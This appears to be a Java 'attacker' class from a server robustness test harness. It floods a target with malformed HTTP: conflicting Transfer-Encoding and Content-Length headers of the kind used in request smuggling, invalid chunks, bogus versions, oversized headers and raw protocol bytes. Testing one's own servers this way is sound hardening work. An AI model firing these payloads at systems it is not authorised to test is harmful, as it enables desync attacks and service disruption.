package io.keylapse.attack.kind;

import io.keylapse.attack.wire.Attacker;
import io.keylapse.attack.wire.Line;
import io.keylapse.attack.wire.Requests;
import io.keylapse.attack.wire.Target;
import io.keylapse.attack.wire.Turns;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Sends data that is not HTTP or can be parsed in two ways, followed by a request; at most 500 connections per second.
 */
record Garbage(int connections) implements Attacker {
    private static final Duration ROUND = Duration.ofMillis(100);
    private static final List<String> TARGETS = List.of("/check", "/v1/me", "/n");

    @Override
    public String name() {
        return "garbage";
    }

    @Override
    public long bytes() {
        return 1L << 30;
    }

    @Override
    public void attack(Target target) throws InterruptedException {
        var lines = new ArrayList<Line>();
        var next = new Turns<>(TARGETS.stream().flatMap(Garbage::about).toList());
        while (target.goesOn()) {
            target.refill(lines, line -> line.send(Requests.bytes(next.get() + Requests.get("/check"))));
            target.hold(lines, ROUND);
            lines.forEach(Line::swallow);
            lines.forEach(Line::close);
        }
    }

    private static Stream<String> about(String path) {
        Stream<String> framings = Stream.of(
                        "Transfer-Encoding: chunked\r\nContent-Length: 3",
                        "Content-Length: 3\r\nTransfer-Encoding: chunked",
                        "Transfer-Encoding: chunked, identity",
                        "Transfer-Encoding: chunked, chunked",
                        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                        "Transfer-Encoding: xchunked",
                        "Transfer-Encoding: \"chunked\"",
                        "Transfer-Encoding: chunked;q=1",
                        "Transfer-Encoding : chunked",
                        "Transfer-Encoding:\r\n chunked",
                        "Content-Length: 3\r\nContent-Length: 4",
                        "Content-Length: -1",
                        "Content-Length: 99999999999999999999",
                        "Content-Length: 0x3",
                        "X: a\0b",
                        "X\u00e9: 1",
                        ": no name")
                .map(framing -> Requests.head("POST", path, framing) + "\r\nabc");
        Stream<String> chunks = Stream.of(
                        "zz\r\n", "-1\r\n", "fffffffffffffffff\r\n", "3\r\nabcdef\r\n", "3;" + "x".repeat(70_000))
                .map(chunk -> Requests.head("POST", path, "Transfer-Encoding: chunked") + "\r\n" + chunk);
        Stream<String> versions = Stream.of(
                        "HTTP/0.9", "HTTP/1.0", "HTTP/1.2", "HTTP/2.0", "HTTP/9.9", "HTCPCP/1.0", "")
                .map(version ->
                        "POST " + path + " " + version + "\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
        Stream<String> sizes = Stream.of(
                Requests.get(path + "/" + "x".repeat(20_000)),
                Requests.get(path, "X: " + "x".repeat(40_000)),
                Requests.get(
                        path,
                        IntStream.range(0, 5_000).mapToObj(i -> "X" + i + ": x").toArray(String[]::new)),
                "x".repeat(100_000),
                "\r\n".repeat(50_000),
                "\0".repeat(1_000),
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003" + "x".repeat(500));
        return Stream.of(framings, chunks, versions, sizes).flatMap(each -> each);
    }
}
